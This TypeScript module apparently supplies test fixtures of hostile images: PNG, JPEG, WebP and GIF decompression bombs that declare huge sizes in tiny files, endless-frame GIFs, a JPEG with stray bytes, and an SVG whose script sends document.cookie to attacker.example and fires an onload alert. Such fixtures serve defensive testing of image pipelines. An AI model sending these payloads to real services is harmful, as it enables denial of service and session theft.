// Hostile images, crafted byte by byte or patched from small sharp outputs: decompression
// bombs (a huge declared size in a tiny file), long animations, stray and missing bytes.
import { deflateSync } from 'node:zlib';
import sharp from 'sharp';

function crc32(bytes: Buffer): number {
  let crc = ~0;
  for (const byte of bytes) {
    crc ^= byte;
    for (let k = 0; k < 8; k++) crc = (crc >>> 1) ^ (0xedb88320 & -(crc & 1));
  }
  return ~crc >>> 0;
}

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/** A 1-bit grey PNG declaring `width`x`height` whose pixel data stops after a few rows. */
export function pngBomb(width: number, height: number): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr.set([1, 0, 0, 0, 0], 8);
  const rows = Buffer.alloc((Math.ceil(width / 8) + 1) * 16);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', ihdr), pngChunk('IDAT', deflateSync(rows)), pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A small baseline JPEG whose frame header (SOF0) declares `width`x`height`. */
export async function jpegBomb(width: number, height: number): Promise<Buffer> {
  const jpeg = Buffer.from(await sharp({ create: { width: 16, height: 16, channels: 3, background: '#808080' } }).jpeg().toBuffer());
  for (let i = 2; i < jpeg.length - 9; i++) {
    if (jpeg[i] === 0xff && jpeg[i + 1] === 0xc0) {
      jpeg.writeUInt16BE(height, i + 5);
      jpeg.writeUInt16BE(width, i + 7);
      return jpeg;
    }
  }
  throw new Error('no SOF0 marker');
}

/** A small lossless WebP whose VP8L header declares `width`x`height` (at most 16384 each). */
export async function webpBomb(width: number, height: number): Promise<Buffer> {
  const webp = Buffer.from(await sharp({ create: { width: 16, height: 16, channels: 3, background: '#808080' } }).webp({ lossless: true }).toBuffer());
  const at = webp.indexOf('VP8L', 12, 'latin1');
  if (at < 0) throw new Error('no VP8L chunk');
  const header = webp.readUInt32LE(at + 9);
  webp.writeUInt32LE(((width - 1) & 0x3fff) | (((height - 1) & 0x3fff) << 14) | (header & 0xf0000000), at + 9);
  return webp;
}

/** LZW data for `pixels` pixels of one colour, with a clear code every two codes so codes stay 3 bits. */
function flatLzw(pixels: number, colour: 0 | 1): Buffer {
  const codes: number[] = [];
  for (let i = 0; i < pixels; i += 2) codes.push(4, colour, ...(i + 1 < pixels ? [colour] : []));
  codes.push(5);
  const bytes: number[] = [];
  let bits = 0;
  let used = 0;
  for (const code of codes) {
    bits |= code << used;
    used += 3;
    while (used >= 8) { bytes.push(bits & 0xff); bits >>= 8; used -= 8; }
  }
  if (used > 0) bytes.push(bits & 0xff);
  const blocks: number[] = [2];
  for (let i = 0; i < bytes.length; i += 255) blocks.push(Math.min(255, bytes.length - i), ...bytes.slice(i, i + 255));
  blocks.push(0);
  return Buffer.from(blocks);
}

/**
 * A GIF of `frames` frames of `width`x`height`, black and white in turn (so no encoder can
 * merge them), each shown 10 ms. With `pixels`
 * smaller than the frame, its data stops early: a bomb declaring a huge frame in a tiny file.
 */
export function gif(width: number, height: number, frames: number, screen = { width, height }, pixels = width * height): Buffer {
  const head = Buffer.alloc(13 + 6);
  head.write('GIF89a', 0, 'latin1');
  head.writeUInt16LE(screen.width, 6);
  head.writeUInt16LE(screen.height, 8);
  head.set([0x80, 0, 0], 10); // a global table of 2 colours
  head.set([0, 0, 0, 255, 255, 255], 13);
  const loop = Buffer.from([0x21, 0xff, 0x0b, ...Buffer.from('NETSCAPE2.0', 'latin1'), 0x03, 0x01, 0x00, 0x00, 0x00]);
  const descriptor = Buffer.alloc(10);
  descriptor[0] = 0x2c;
  descriptor.writeUInt16LE(width, 5);
  descriptor.writeUInt16LE(height, 7);
  const frame = (colour: 0 | 1) => Buffer.concat([Buffer.from([0x21, 0xf9, 0x04, 0x00, 0x01, 0x00, 0x00, 0x00]), descriptor, flatLzw(pixels, colour)]);
  const pair = [frame(0), frame(1)];
  return Buffer.concat([head, loop, ...Array.from({ length: frames }, (_, i) => pair[i % 2]), Buffer.from([0x3b])]);
}

/** A JPEG with two stray bytes before its SOS marker: libjpeg warns, every browser shows it. */
export async function jpegWithStrayBytes(width: number, height: number): Promise<Buffer> {
  const jpeg = await sharp({ create: { width, height, channels: 3, background: '#3366cc' } }).jpeg().toBuffer();
  const sos = jpeg.indexOf(Buffer.from([0xff, 0xda]), 2);
  return Buffer.concat([jpeg.subarray(0, sos), Buffer.from([0x00, 0x00]), jpeg.subarray(sos)]);
}

export const HOSTILE_SVG = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="100">
  <script>fetch('https://attacker.example/?c=' + document.cookie)</script>
  <image xlink:href="https://attacker.example/track.png" width="100" height="100"/>
  <rect width="100" height="100" fill="red" onload="alert(1)"/>
</svg>
`;
